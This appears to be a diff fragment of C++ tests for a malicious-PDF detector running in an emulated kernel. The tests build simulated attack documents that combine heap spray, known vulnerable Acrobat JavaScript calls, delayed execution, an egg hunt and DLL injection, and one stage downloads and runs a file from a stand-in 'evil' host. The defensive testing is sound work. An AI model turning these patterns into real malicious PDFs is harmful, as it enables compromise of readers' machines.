+  // (instrumenting dynamic-script literals) keeps it inside an envelope.
+  Harness h;
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/s2.exe", "c:/s2.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/s2.exe"}});
+  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
+  pd::Document doc = doc_with_open_action_js(
+      spray_and(rd::encode_shellcode(prog),
+                "this.addScript('s2', '" + stage2 + "');"));
+  const auto key = h.run(doc, "staged.pdf");
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/s2.exe"));
+}
+
+TEST(EndToEnd, DelayedExecutionViaSetTimeOutIsStillMonitored) {
+  Harness h;
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"EXEC", {"c:/delayed.exe"}});
+  const std::string delayed = "Collab.getIcon(keep.substring(0, 1500));";
+  pd::Document doc = doc_with_open_action_js(
+      spray_and(rd::encode_shellcode(prog),
+                "app.setTimeOut('" + delayed + "', 9000);"));
+  const auto key = h.run(doc, "delayed.pdf");
+  EXPECT_TRUE(h.detector->verdict(key).malicious);
+}
+
+TEST(EndToEnd, EggHuntDetectedViaMappedMemorySearch) {
+  Harness h;
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"HUNT", {"30"}});
+  prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded"}});
+  prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
+  pd::Document doc = doc_with_open_action_js(spray_and(
+      rd::encode_shellcode(prog), "this.media.newPlayer(null);"));
+  const auto key = h.run(doc, "egghunt.pdf");
+  const co::DocumentState* st = h.detector->state(key);
+  ASSERT_NE(st, nullptr);
+  EXPECT_TRUE(
+      st->runtime_features.count(co::Feature::kF10_MappedMemorySearch));
+  EXPECT_TRUE(h.detector->verdict(key).malicious);
+}
+
+TEST(EndToEnd, DllInjectionAlwaysBlocked) {
+  Harness h;
+  // Give the kernel an extra victim process.
+  h.kernel.create_process("explorer.exe");
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"INJECT", {"*", "evil.dll"}});
+  pd::Document doc = doc_with_open_action_js(spray_and(
+      rd::encode_shellcode(prog), "Collab.getIcon(keep.substring(0, 1500));"));
+  const auto key = h.run(doc, "inject.pdf");
+  EXPECT_TRUE(h.detector->verdict(key).malicious);
+  for (const auto& [pid, proc] : h.kernel.processes()) {
+    EXPECT_TRUE(proc->injected_dlls().empty()) << proc->image();
+  }
+}
+
+TEST(FrontEnd, PipelineTimingsAndStats) {
+  sp::Rng rng(17);
+  co::FrontEnd fe(rng, co::generate_detector_id(rng));
+  pd::Document doc = doc_with_open_action_js("var v = 1;");
+  co::FrontEndResult r = fe.process(pd::write_document(doc));
+  ASSERT_TRUE(r.ok);
+  EXPECT_TRUE(r.has_javascript);
+  EXPECT_GT(r.parse_stats.indirect_objects, 0u);
+  EXPECT_GE(r.timings.total_s(), 0.0);
+  EXPECT_FALSE(r.output.empty());
+  // Output parses and still carries exactly one JS site.
+  pd::Document again = pd::parse_document(r.output);
+  EXPECT_EQ(co::analyze_js_chains(again).sites.size(), 1u);
+}
+
+TEST(FrontEnd, RejectsNonPdfGracefully) {
+  sp::Rng rng(18);
+  co::FrontEnd fe(rng, co::generate_detector_id(rng));
+  co::FrontEndResult r = fe.process(sp::to_bytes("not a pdf"));
+  EXPECT_FALSE(r.ok);
+  EXPECT_FALSE(r.error.empty());
+}
